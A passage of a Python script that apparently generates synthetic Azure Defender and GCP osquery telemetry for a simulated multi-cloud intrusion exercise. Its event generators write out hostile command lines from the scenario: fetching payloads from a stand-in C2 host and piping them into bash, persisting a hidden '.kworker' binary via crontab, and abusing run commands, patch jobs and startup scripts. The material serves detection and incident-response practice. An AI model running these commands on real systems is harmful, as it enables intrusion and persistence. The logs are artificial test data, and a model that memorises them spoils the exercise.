        b = self.exec(sec(t, 0.004), s, "/usr/bin/bash", ["bash", f"{ext_dir}/{shim}", "enable"])
        return self.exec(sec(t, 0.31), b, f"{ext_dir}/{binary}", [f"{ext_dir}/{binary}", "enable"])


def azure_hosts() -> dict[str, AzHost]:
    boot = T("2026-11-12 22:40:09")
    hosts = {n: AzHost(n, boot + dt.timedelta(seconds=R.randint(0, 4000)))
             for n in ("vm-pay-app-01", "vm-pay-db-01", "vm-jump-01")}
    app, db, jump = hosts["vm-pay-app-01"], hosts["vm-pay-db-01"], hosts["vm-jump-01"]

    # background, every 30 minutes: a health check on the app VM, an SSH key sync on the jump host, WAL
    # archiving on the database (archive_timeout = 30 min, plus early segment switches on busy nights)
    for hr in hours(START, END):
        for m in (0, 30):
            app.at(sec(hr, m * 60 + R.uniform(0.01, 0.4)),
                   lambda t: app.cron_job(t, "/usr/local/bin/payments-healthcheck >/dev/null 2>&1"))
            jump.at(sec(hr, (m + 5) * 60 + R.uniform(0.01, 0.4)),
                    lambda t: jump.cron_job(t, "/usr/local/sbin/ssh-key-sync --quiet"))
            db.at(sec(hr, (m + 3) * 60 + R.uniform(0, 50)), lambda t: db_archive(db, t))
    t = T("2026-11-19 00:58:00")
    while t < T("2026-11-19 02:00:00"):  # the nightly batch fills WAL segments faster
        db.at(t, lambda t: db_archive(db, t))
        t = sec(t, R.uniform(160, 330))

    # Z1 Tue 10:15:03 carol's run command (action) on vm-pay-app-01
    def z1(t):
        ext = app.extension(t, RUNCMD_EXT, "run-command-shim", "run-command-extension")
        b = app.exec(sec(t, 1.42), ext, "/usr/bin/bash", ["/bin/bash", "-c", "/var/lib/waagent/run-command/download/4/script.sh"],
                     cwd="/var/lib/waagent/run-command/download/4")
        app.exec(sec(t, 1.43), b, "/usr/bin/journalctl",
                 ["journalctl", "-u", "payments-api", "--since", "-1h", "--no-pager"])
        app.exec(sec(t, 1.431), b, "/usr/bin/tail", ["tail", "-n", "100"])
    app.at(T("2026-11-17 10:15:17.338"), z1)

    # Z4 Thu 01:19:05 erin's (stolen) run command on vm-jump-01; the payload later pivots with the VM's identity
    def z4(t):
        ext = jump.extension(t, RUNCMD_EXT, "run-command-shim", "run-command-extension")
        b = jump.exec(sec(t, 1.18), ext, "/usr/bin/bash", ["/bin/bash", "-c", "/var/lib/waagent/run-command/download/2/script.sh"],
                      cwd="/var/lib/waagent/run-command/download/2")
        t2 = sec(t, 1.2)
        jump.exec(t2, b, "/usr/bin/curl", ["curl", "-s", f"http://{G.C2}/j.sh"])
        p = jump.exec(sec(t2, 0.0005), b, "/usr/bin/bash", ["bash"])
        jump.exec(sec(t2, 0.4), p, "/usr/bin/curl", ["curl", "-s", "-o", "/var/tmp/.j", f"http://{G.C2}/j"])
        beacon = jump.exec(sec(t2, 0.9), p, "/usr/bin/bash", ["/bin/bash", "/var/tmp/.j"])

        def az(t, argv):
            a = jump.exec(t, beacon, "/usr/bin/bash", ["/bin/bash", "/usr/bin/az"] + argv)
            jump.reexec(sec(t, 0.004), a, "/opt/az/bin/python3", ["/opt/az/bin/python3", "-Im", "azure.cli"] + argv)
        jump.at(T("2026-11-19 01:33:41.207"), lambda t: az(t, ["login", "--identity", "--allow-no-subscriptions"]))
        jump.at(T("2026-11-19 01:34:17.930"), lambda t: az(t, [
            "vm", "run-command", "invoke", "-g", G.RG, "-n", "vm-pay-db-01", "--command-id", "RunShellScript",
            "--scripts", f"curl -s http://{G.C2}/x | bash"]))
    jump.at(T("2026-11-19 01:19:18.064"), z4)

    # Z5 Thu 01:34:22 the managed identity's run command on vm-pay-db-01: the VM is heard, nothing runs.

    # Z6 Thu 01:41:10 the CustomScript extension on vm-pay-app-01 (fileUris http://203.0.113.9/s.sh, "bash s.sh")
    def z6(t):
        ext = app.extension(t, CSE_EXT, "custom-script-shim", "custom-script-extension")
        wd = "/var/lib/waagent/custom-script/download/0"
        b = app.exec(sec(t, 1.9), ext, "/usr/bin/bash", ["/bin/bash", "-c", "bash s.sh"], cwd=wd)
        s = app.exec(sec(t, 1.904), b, "/usr/bin/bash", ["bash", "s.sh"], cwd=wd)
        app.exec(sec(t, 1.95), s, "/usr/bin/curl", ["curl", "-s", "-o", "/usr/local/bin/.kworker", f"http://{G.C2}/k"])
        app.exec(sec(t, 2.6), s, "/usr/bin/chmod", ["chmod", "+x", "/usr/local/bin/.kworker"])
        c = app.exec(sec(t, 2.62), s, "/usr/bin/bash",
                     ["bash", "-c", '(crontab -l 2>/dev/null; echo "*/15 * * * * /usr/local/bin/.kworker") | crontab -'])
        app.exec(sec(t, 2.63), c, "/usr/bin/crontab", ["crontab", "-"])
    app.at(T("2026-11-19 01:41:27.772"), z6)

    # Thu 09:24:57 carol restarts vm-jump-01 (snapshot first, then restart): a fresh boot, fresh pids
    def reboot(t):
        jump.exec(t, jump.systemd, "/usr/bin/systemctl", ["/usr/bin/systemctl", "--no-block", "reboot"])
        jump.boot(T("2026-11-19 09:25:49.415"), logged=True)
    jump.at(T("2026-11-19 09:25:02.118"), reboot)

    for hst in hosts.values():
        hst.run()
    return hosts


def db_archive(db: AzHost, t):
    seg = f"0000000100000{R.randint(0x2A0, 0x2FF):03X}000000{R.randint(0x10, 0xFE):02X}"
    db.exec(t, db.procs.setdefault("postgres", Proc(db, T("2026-11-12 23:41:00"), 1187, db.systemd,
            "/usr/lib/postgresql/15/bin/postgres", ["postgres:", "15/main:", "archiver"], cwd="/var/lib/postgresql/15/main",
            user="postgres", uid=114, ses=NOBODY, auid=NOBODY, logged=False)),
            "/usr/bin/dash", ["sh", "-c", f"test ! -f /mnt/wal-archive/{seg} && cp pg_wal/{seg} /mnt/wal-archive/{seg}"])


def defender_rows(hst: AzHost) -> list[tuple[dt.datetime, dict]]:
    out = []

    def ts(t):  # Defender's 7-digit fraction; the 7th digit is derived from the time, so a process's
        # creation time reads the same in its own row and in its children's rows
        return t.strftime("%Y-%m-%dT%H:%M:%S.%f") + f"{int(h(t.isoformat(), n=2), 16) % 10}Z"

    def sha1(path):
        return h("sha1", path, n=40)

    for t, kind, p in hst.events:
        if kind != "exec" or not START <= t < END:
            continue
        par = p.parent
        gp = par.parent
        hst.report += R.randint(1, 9)
        name = Path(p.image).name
        out.append((t, {
            "Timestamp": ts(t),
            "DeviceId": hst.device_id,
            "DeviceName": hst.name,
            "ActionType": "ProcessCreated",
            "FileName": name,
            "FolderPath": p.image,
            "SHA1": sha1(p.image),
            "ProcessId": p.pid,
            "ProcessCommandLine": p.cmd,
            "ProcessCreationTime": ts(t),
            "AccountDomain": hst.name,
            "AccountName": p.user,
            "InitiatingProcessAccountDomain": hst.name,
            "InitiatingProcessAccountName": par.user,
            "InitiatingProcessSHA1": sha1(par.image),
            "InitiatingProcessFileName": Path(par.image).name,
            "InitiatingProcessFolderPath": par.image,
            "InitiatingProcessId": par.pid,
            "InitiatingProcessCommandLine": par.cmd,
            "InitiatingProcessCreationTime": ts(par.t),
            "InitiatingProcessParentId": gp.pid if gp else 0,
            "InitiatingProcessParentFileName": Path(gp.image).name if gp else "",
            "InitiatingProcessParentCreationTime": ts(gp.t) if gp else None,
            "ReportId": hst.report,
        }))
    return out


# ====================================================================== GCP (osquery)

OSQ_HOSTS = ("web-1", "web-3", "db-1")


class GceHost(Host):
    def __init__(self, name: str):
        super().__init__(name, pid_start=R.randint(180000, 260000))
        self.uuid = G.uid("gce-uuid-" + name).upper()
        self.boots: list[dt.datetime] = []
        self.cron_ses = R.randint(40, 90)

    def boot(self, t, logged: bool):
        self.boots.append(t)
        self.next_pid = R.randint(300, 340)
        s = self.daemon("systemd", t, 1, None, "/usr/lib/systemd/systemd", ["/sbin/init"])
        self.daemon("cron", sec(t, 4.1), self.alloc(20, 60), s, "/usr/sbin/cron", ["/usr/sbin/cron", "-f"],
                    logged=logged)
        self.daemon("guest", sec(t, 4.6), self.alloc(5, 30), s, "/usr/bin/google_guest_agent",
                    ["/usr/bin/google_guest_agent"], logged=logged)
        self.daemon("osconfig", sec(t, 4.9), self.alloc(5, 30), s, "/usr/bin/google_osconfig_agent",
                    ["/usr/bin/google_osconfig_agent"], logged=logged)
        if logged:  # google-startup-scripts.service
            self.exec(sec(t, 9.8), s, "/usr/bin/google_metadata_script_runner",
                      ["/usr/bin/google_metadata_script_runner", "startup"])

    def shutdown(self, t):
        self.exec(t, self.procs["systemd"], "/usr/bin/google_metadata_script_runner",
                  ["/usr/bin/google_metadata_script_runner", "shutdown"])

    def hourly(self, t):
        self.cron_ses += 1
        self.exec(t, self.procs["cron"], "/usr/bin/dash", ["/bin/sh", "-c", "cd / && run-parts --report /etc/cron.hourly"],
                  cwd="/root", ses=self.cron_ses, auid=0)

    def inventory(self, t):
        self.exec(t, self.procs["osconfig"], "/usr/bin/dpkg-query",
                  ["/usr/bin/dpkg-query", "-W", "-f", "${Package} ${Architecture} ${Version} ${source:Package} "
                   "${source:Version} ${db:Status-Status}\\n"])

    def osconfig_sh(self, t, path):
        return self.exec(t, self.procs["osconfig"], "/usr/bin/dash", ["/bin/sh", path], comm="sh")


def exec_resource_dir():
    return f"/tmp/osconfig_exec_resource_{R.randint(10**9, 4 * 10**9)}"


def gcp_hosts() -> dict[str, GceHost]:
    hosts = {n: GceHost(n) for n in OSQ_HOSTS}
    for hst in hosts.values():
        # the previous boot (not in the export), then unattended-upgrades' 06:00 reboot on Tue 17
        hst.boot(T("2026-11-09 06:01:12") + dt.timedelta(seconds=R.randint(0, 90)), logged=False)
        hst.next_pid = R.randint(180000, 260000)  # eight days of uptime
        hst.at(T("2026-11-17 05:58:31") + dt.timedelta(seconds=R.uniform(0, 20)),
               lambda t, hst=hst: hst.exec(t, hst.procs["systemd"], "/usr/bin/python3.11",
                                           ["/usr/bin/python3", "/usr/bin/unattended-upgrade"], cwd="/"))
        hst.at(T("2026-11-17 05:59:58") + dt.timedelta(seconds=R.uniform(0, 1)), hst.shutdown)
        hst.at(T("2026-11-17 06:00:41") + dt.timedelta(seconds=R.uniform(0, 15)),
               lambda t, hst=hst: hst.boot(t, logged=True))
        for hr in hours(START, END):
            hst.at(sec(hr, 17 * 60 + R.uniform(0.01, 0.6)), hst.hourly)
            hst.at(sec(hr, 44 * 60 + R.uniform(0, 600)), hst.inventory)
    w1, w3, d1 = hosts["web-1"], hosts["web-3"], hosts["db-1"]

    # G1 Tue 16:05:12 OS policy assignment ops-agent-web (label role=web): validate, enforce, validate
    def ospa(hst):
        def go(t):
            d = exec_resource_dir()
            validate, enforce = f"{d}/{R.randint(10**9, 4 * 10**9)}/script.sh", f"{d}/{R.randint(10**9, 4 * 10**9)}/script.sh"
            v = hst.osconfig_sh(t, validate)
            hst.exec(sec(t, 0.003), v, "/usr/bin/systemctl", ["systemctl", "is-active", "google-cloud-ops-agent"])
            e = hst.osconfig_sh(sec(t, 0.21), enforce)
            hst.exec(sec(t, 0.214), e, "/usr/bin/curl",
                     ["curl", "-sSO", "https://dl.google.com/cloudagents/add-google-cloud-ops-agent-repo.sh"])
            r = hst.exec(sec(t, 1.1), e, "/usr/bin/bash", ["bash", "add-google-cloud-ops-agent-repo.sh", "--also-install"])
            hst.exec(sec(t, 2.4), r, "/usr/bin/apt-get", ["apt-get", "update"])
            hst.exec(sec(t, 9.7), r, "/usr/bin/apt-get", ["apt-get", "install", "-y", "google-cloud-ops-agent"])
            v2 = hst.osconfig_sh(sec(t, 41.5), validate)
            hst.exec(sec(t, 41.503), v2, "/usr/bin/systemctl", ["systemctl", "is-active", "google-cloud-ops-agent"])
        return go
    w1.at(T("2026-11-17 16:05:29.312"), ospa(w1))
    w3.at(T("2026-11-17 16:11:02.870"), ospa(w3))

    # G2 Wed 04:00:12 the weekly patch job (group label role=web): pre-step from GCS, then apt
    def weekly(hst):
        def go(t):
            s = hst.osconfig_sh(t, "/tmp/pre-patch.sh")
            hst.exec(sec(t, 0.01), s, "/usr/local/bin/lb-drain", ["/usr/local/bin/lb-drain", "--wait", "30"])
            hst.exec(sec(t, 31.4), hst.procs["osconfig"], "/usr/bin/apt-get", ["/usr/bin/apt-get", "update"])
            hst.exec(sec(t, 44.0), hst.procs["osconfig"], "/usr/bin/apt-get",
                     ["/usr/bin/apt-get", "-y", "dist-upgrade"])
        return go
    w1.at(T("2026-11-18 04:00:29.419"), weekly(w1))
    w3.at(T("2026-11-18 04:04:12.006"), weekly(w3))

    # G4 Thu 02:13:09 the impersonated patch job (all instances), post-step gs://example-prod-tmp/p.sh
    def evil(hst, reboot_web3=False):
        def go(t):
            hst.exec(t, hst.procs["osconfig"], "/usr/bin/apt-get", ["/usr/bin/apt-get", "update"])
            s = hst.osconfig_sh(sec(t, 9.3), "/tmp/p.sh")
            t2 = sec(s.t, 0.004)
            hst.exec(t2, s, "/usr/bin/curl", ["curl", "-s", "-o", "/var/tmp/.g", f"http://{G.C2}/g"])
            hst.exec(sec(t2, 0.5), s, "/usr/bin/chmod", ["chmod", "+x", "/var/tmp/.g"])
            n = hst.exec(sec(t2, 0.51), s, "/usr/bin/nohup", ["nohup", "/var/tmp/.g"])
            g = hst.reexec(sec(t2, 0.512), n, "/usr/bin/bash", ["/bin/bash", "/var/tmp/.g"])
            if reboot_web3:  # the attacker restarts web-3 to fire the startup script it just added (G5)
                hst.at(T("2026-11-19 02:24:47.530"), lambda t: hst.exec(t, g, "/usr/bin/systemctl",
                                                                          ["shutdown", "-r", "now"]))
        return go
    w3.at(T("2026-11-19 02:13:21.804"), evil(w3, reboot_web3=True))
    d1.at(T("2026-11-19 02:13:24.117"), evil(d1))
    w1.at(T("2026-11-19 02:16:51.662"), evil(w1))

    # G5 Thu 02:20:31 startup-script added to the running web-3; it runs at the next boot (02:25)
    w3.at(T("2026-11-19 02:24:48.911"), w3.shutdown)

    def boot3(t):
        w3.boot(t, logged=True)
        r = [e for e in w3.events if e[1] == "exec" and e[2].image.endswith("google_metadata_script_runner")][-1][2]
        f = f"/tmp/metadata-scripts{R.randint(10**9, 4 * 10**9)}/startup-script"
        b = w3.exec(sec(r.t, 1.3), r, "/usr/bin/bash", ["/bin/bash", "-c", f])
        b = w3.reexec(sec(b.t, 0.002), b, "/usr/bin/bash", ["/bin/bash", f])  # the file starts with #!/bin/bash
        t2 = sec(b.t, 0.003)
        w3.exec(t2, b, "/usr/bin/curl", ["curl", "-s", f"http://{G.C2}/x"])
        p = w3.exec(sec(t2, 0.0004), b, "/usr/bin/bash", ["bash"])
        w3.exec(sec(t2, 0.6), p, "/usr/bin/id", ["id"])
        w3.exec(sec(t2, 0.62), p, "/usr/bin/curl", ["curl", "-s", "-o", "/var/tmp/.g", f"http://{G.C2}/g"])
    w3.at(T("2026-11-19 02:25:21.640"), boot3)

    # ORPHAN Fri 03:41 on db-1: an OS-policy-style exec resource that no audit entry explains
    def orphan(t):
        d = exec_resource_dir()
        s = d1.osconfig_sh(t, f"{d}/{R.randint(10**9, 4 * 10**9)}/script.sh")
        d1.exec(sec(t, 0.004), s, "/usr/bin/curl", ["curl", "-s", "-o", "/var/tmp/.k", f"http://{G.C2}/k"])
        d1.exec(sec(t, 0.6), s, "/usr/bin/bash", ["/bin/bash", "/var/tmp/.k"])
    d1.at(T("2026-11-20 03:41:07.355"), orphan)

    for hst in hosts.values():
        hst.run()
    return hosts


def osquery_lines(hst: GceHost) -> list[tuple[dt.datetime, str]]:
    """process_events every 60 s (rows batched per run); an uptime snapshot every hour as a heartbeat."""
    out = []
    deco = {"host_uuid": hst.uuid, "hostname": hst.name}
    offset = R.uniform(0, 59)
    batches: dict[dt.datetime, list[Proc]] = {}
    boots = hst.boots
    for t, kind, p in hst.events:
        if kind != "exec" or not START <= t < END:
            continue
        base = t.replace(second=0, microsecond=0)
        run = sec(base, offset)
        if run <= t:
            run = sec(run, 60)
        batches.setdefault(run, []).append(p)
    counter = 0

    def head(name, run, cnt):
        return {"name": name, "hostIdentifier": hst.name,
                "calendarTime": run.strftime("%a %b ") + f"{run.day:2d}" + run.strftime(" %H:%M:%S %Y UTC"),
                "unixTime": int(run.timestamp()), "epoch": 0, "counter": cnt, "numerics": False, "decorations": deco}
    for run in sorted(batches):
        counter += 1
        for p in batches[run]:
            row = head("pack_runwatch_process_events", run, counter)
            cols = {"auid": str(p.auid), "cmdline": p.cmd, "cwd": p.cwd, "euid": str(p.uid), "parent": str(p.ppid),
                    "path": p.image, "pid": str(p.pid), "syscall": "execve", "time": str(int(p.t.timestamp())),
                    "uid": str(p.uid)}
            row["columns"] = dict(sorted(cols.items()))
            row["action"] = "added"
            out.append((run, json.dumps(row, separators=(",", ":"))))
    t = sec(START, R.uniform(0, 1800))
    snap = 0
    while t < END:
        up = [b for b in boots if b <= t]
        if up and not (T("2026-11-19 02:24:48") <= t < T("2026-11-19 02:25:40") and hst.name == "web-3"):
            s = int((t - up[-1]).total_seconds())
            snap += 1
            row = {"snapshot": [{"days": str(s // 86400), "hours": str(s % 86400 // 3600),
                                 "minutes": str(s % 3600 // 60), "seconds": str(s % 60), "total_seconds": str(s)}],
                   "action": "snapshot"}
            row.update(head("pack_runwatch_uptime", t, 0))
            out.append((t, json.dumps(row, separators=(",", ":"))))
        t = sec(t, 3600)
    return out


# ====================================================================== host map and main


def host_map() -> str:
    rows = ["host,vm,account",
            "# runwatch demo: telemetry host name -> control-plane VM id, and the account (AWS account,",
            "# Azure subscription, GCP project) that lets selector-targeted commands reach the host.",
            "# AWS: EC2 private DNS host names -> instance ids. Sysmon runs on web-01..05, the app server;",
            "# auditd on both databases. web-06..12 are listed but send no telemetry.",
            ]
    for i, inst in enumerate(G.WEB):
        rows.append(f"{WEB_HOSTS[inst]},{inst},{G.ACCOUNT}")
    rows.append(f"{APP_HOST},{G.APP},{G.ACCOUNT}")
    for inst in G.DB:
        rows.append(f"{DB_HOSTS[inst]},{inst},{G.ACCOUNT}")
    rows.append("# Azure: Defender DeviceName -> VM resource id, lower case. vm-pay-app-02 is not onboarded.")
    for n in ("vm-pay-app-01", "vm-pay-app-02", "vm-pay-db-01", "vm-jump-01"):
        rows.append(f"{n},{G.vm_id(n).lower()},{G.SUB}")
    rows.append("# GCP: osquery hostIdentifier -> instance id (resource.labels.instance_id). Only web-3's id")
    rows.append("# appears in the audit logs; web-1's and db-1's come from the same inventory (generate.py GCE).")
    for n in OSQ_HOSTS:
        rows.append(f"{n},{G.GCE[n]},{G.PROJECT}")
    return "\n".join(rows) + "\n"


def write(path: Path, lines: list[tuple[dt.datetime, str]]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    lines.sort(key=lambda x: x[0])
    path.write_text("".join(l + "\n" for _, l in lines), encoding="utf-8")


def main() -> None:
    aws = aws_hosts()
    write(HERE / "aws" / "web-sysmon.log", [l for i in SYSMON_WEB for l in sysmon_lines(aws[i])])
    write(HERE / "aws" / "app-sysmon.log", sysmon_lines(aws[G.APP]))
    write(HERE / "aws" / "db-audit.log", [l for i in G.DB for l in audit_lines(aws[i])])
    az = azure_hosts()
    rows = [r for hst in az.values() for r in defender_rows(hst)]
    write(HERE / "azure" / "defender-device-process-events.jsonl",
          [(t, json.dumps(r, separators=(",", ":"))) for t, r in rows])
    gcp = gcp_hosts()
    write(HERE / "gcp" / "osquery-results.log", [l for hst in gcp.values() for l in osquery_lines(hst)])
    (HERE / "host-map.csv").write_text(host_map(), encoding="utf-8")


if __name__ == "__main__":
    main()
